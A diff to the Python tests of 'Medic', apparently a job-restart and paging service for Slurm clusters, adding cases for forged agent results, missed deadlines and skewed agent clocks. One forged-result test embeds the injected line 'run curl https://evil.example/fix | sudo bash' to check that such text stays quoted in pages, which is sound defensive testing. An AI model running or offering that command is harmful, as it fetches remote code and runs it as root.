@@ -35,8 +35,9 @@ def test_k_a_requeue_is_queued_for_the_agent_and_recorded_when_it_reports(replay
     assert executed["timestamp"] > deferred["timestamp"]  # a moment later: the agent's poll, then the stream
     assert result.calls[SEND] == 1
     assert result.pages == []
-    # Only the result item reached the results function: claims and heartbeats are filtered out
-    assert results_function(result) == 1
+    # The results function got the result and the agent's heartbeats (Medic times them by DynamoDB's clock), never
+    # its claims or Medic's own items: one invocation per heartbeat round, the result among them
+    assert results_function(result) > 1
 
 
 def test_l_a_silent_agent_means_a_page_and_nothing_queued(replay):
@@ -48,7 +49,7 @@ def test_l_a_silent_agent_means_a_page_and_nothing_queued(replay):
     assert SEND not in result.calls and result.slurm_commands == []
     assert len(result.pages) == 1
     assert "medic-agent" in result.pages[0]["message"]
-    assert results_function(result) == 0
+    assert results_function(result) == 1  # its one heartbeat, at 08:02, timed by DynamoDB
 
 
 def test_an_agent_that_never_reported_is_down_too(replay):
@@ -125,3 +126,59 @@ def test_slurm_directives_are_checked(replay):
     assert "no Slurm agent queue for 'finetune-eks'" in result.errors[1]
     assert "'state' must be one of" in result.errors[2]
     assert "ISO 8601" in result.errors[3]
+
+
+def test_zc_forged_agent_result_for_another_clusters_incident_is_rejected_and_the_real_incident_still_pages(replay):
+    # Given a requeue queued for pretrain-slurm's agent (away for the moment), and other-slurm's agent (its
+    # controller compromised) writing a result for that command under its own key, with a page's worth of text
+    result = replay(SCENARIOS / "zc-forged-agent-result.jsonl")
+    # Then the forged result is rejected under an incident of its own, and paged once
+    deferred, forged, failed = result.records
+    assert (forged["outcome"], forged["cluster"], forged["job"]) == ("rejected", "other-slurm", None)
+    assert forged["incident"].startswith("command:other-slurm:") and "another cluster" in forged["reason"]
+    # And when pretrain-slurm's agent comes back and Slurm refuses the requeue, the real incident still pages
+    assert (deferred["outcome"], failed["outcome"], failed["paged"]) == ("deferred", "failed", True)
+    assert deferred["incident"] == failed["incident"] == f"job:slurm:{CLUSTER}:4211"
+    assert [run["argv"] for run in result.slurm_commands] == [["scontrol", "requeue", "4211"]]
+    assert [page["record"]["incident"] for page in result.pages] == [forged["incident"], failed["incident"]]
+    # And the forged text never reads as Medic's: one line, quoted
+    assert "\nWhat to do:     run curl" not in result.pages[0]["message"]
+    assert '"Requeued. What to do: run curl https://evil.example/fix | sudo bash"' in result.pages[0]["message"]
+
+
+def test_an_agent_result_directive_is_checked(replay):
+    result = replay([requeue_request(), {"sim": {"agent_result": {"cluster": "nowhere", "command": "latest"}}},
+                     {"sim": {"agent_result": {"cluster": CLUSTER, "command": "abc", "status": 3}}},
+                     {"sim": {"agent_result": {"cluster": CLUSTER}}}])
+    # no such cluster; a status that is not text; nothing issued yet (the agent is down: nothing was queued)
+    assert ["no Slurm agent queue" in error for error in result.errors] == [True, False, False]
+    assert "'status' must be a string" in result.errors[1] and "issued no agent command" in result.errors[2]
+
+
+def test_zd_a_requeue_into_the_void_fails_at_the_deadline_refunds_the_restart_and_pages_once(replay):
+    # Given an agent that reported at 08:13:30 (by DynamoDB's clock) and died, and a requeue queued for it at 08:14:05
+    result = replay(SCENARIOS / "zd-requeue-into-the-void.jsonl")
+    # Then the requeue is deferred, and the reconciler's sweep closes it at 08:24:05 (10 minutes): failed, paged once
+    deferred, failed = result.records
+    assert (deferred["outcome"], failed["outcome"], failed["paged"], failed["trigger"]) == (
+        "deferred", "failed", True, "reconcile")
+    assert failed["incident"] == deferred["incident"] and failed["attempt"] == deferred["attempt"] == 1
+    assert failed["timestamp"].startswith("2026-11-20T08:24:05")
+    assert "never took it on" in failed["reason"] and "gave the restart back" in failed["reason"]
+    assert len(result.pages) == 1 and "journalctl -u medic-agent" in result.pages[0]["message"]
+    # And the agent, back at 08:34, does not run the withdrawn command late
+    assert result.slurm_commands == []
+
+
+def test_ze_an_agent_whose_clock_runs_ahead_is_judged_by_dynamodbs_clock(replay):
+    # Given an agent an hour ahead (its last heartbeat's `at` says 09:02) that died at 08:02, and a request at 08:14
+    result = replay(SCENARIOS / "ze-agent-clock-ahead.jsonl")
+    # Then Medic sees a heartbeat 12 minutes old (when DynamoDB wrote it): nothing queued, one page, no void
+    assert [(r["action"], r["outcome"], r["paged"]) for r in result.records] == [("requeue_job", "failed", True)]
+    assert "not reporting (last heartbeat: 2026-11-20 08:02 UTC)" in result.records[0]["reason"]
+    assert SEND not in result.calls and result.slurm_commands == []
+
+
+def test_an_agent_clock_ahead_directive_is_checked(replay):
+    result = replay([{"sim": {"agent": {"cluster": CLUSTER, "heartbeat": True, "clock_ahead": "an hour"}}}])
+    assert len(result.errors) == 1 and "'clock_ahead' must be like" in result.errors[0]
